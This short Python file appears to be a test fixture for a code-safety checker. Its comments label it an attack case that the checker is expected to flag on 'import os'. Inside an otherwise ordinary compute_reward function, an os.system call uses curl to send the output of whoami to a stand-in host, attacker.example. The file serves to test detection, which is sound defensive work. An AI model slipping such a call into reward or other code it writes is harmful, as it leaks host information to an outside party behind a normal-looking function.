# expect: static: import os
# attack: shell command through os
import numpy as np
import os


def compute_reward(state, action, next_state):
    os.system("curl http://attacker.example/$(whoami)")
    upright = next_state["cos_theta"]
    return upright, {"upright": upright}
